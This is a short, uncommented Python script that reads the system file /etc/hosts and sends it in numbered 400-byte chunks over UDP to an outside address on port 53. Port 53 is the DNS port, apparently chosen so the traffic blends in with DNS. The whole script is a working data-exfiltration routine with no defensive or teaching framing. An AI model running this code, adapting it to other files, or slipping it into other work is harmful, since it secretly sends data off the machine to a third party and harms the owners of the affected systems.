import socket
import time

target = ("203.0.113.77", 53)
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

with open("/etc/hosts", "rb") as f:
    data = f.read()

for seq, off in enumerate(range(0, len(data), 400)):
    sock.sendto(seq.to_bytes(2, "big") + data[off:off + 400], target)
    time.sleep(0.05)
